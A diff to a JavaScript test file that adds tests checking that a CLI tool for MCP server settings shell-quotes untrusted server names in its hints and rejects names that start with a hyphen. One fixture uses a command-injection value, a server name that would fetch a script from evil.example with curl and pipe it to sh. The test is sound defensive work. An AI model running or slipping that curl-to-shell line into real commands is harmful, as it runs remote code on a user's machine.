@@ -31,4 +31,23 @@ describe("what a person is told to do next", () => {
     const hints = codes.map((code) => new PlugboardError(code, "", about).hint);
     expect(hints.filter((hint) => /<server>|<tool>|[^']issues; true/.test(hint))).toEqual([]);
   });
+
+  it("quotes the name of a project's server that is not trusted or switched off", async () => {
+    const name = "docs;curl https://evil.example|sh;#";
+    const box = createSandbox({
+      "project/.mcp.json": { mcpServers: { [name]: { command: "true" } } },
+      "home/.config/plugboard/config.json": {
+        mcpServers: { "off; true": { command: "true", enabled: false } },
+      },
+    });
+    expect((await box.cli(["get", name])).out).toContain(`\`plugboard trust '${name}'\``);
+    expect((await box.cli(["get", "off; true"])).out).toContain("`plugboard enable 'off; true'`");
+  });
+
+  it("cannot be turned into an option by a project's server", async () => {
+    const box = createSandbox({ "project/.mcp.json": { mcpServers: { "--yes": { command: "true" } } } });
+    const { out, err } = await box.cli(["list"]);
+    expect(out + err).toContain("must not begin with a hyphen");
+    expect(out + err).not.toContain("trust --yes");
+  });
 });
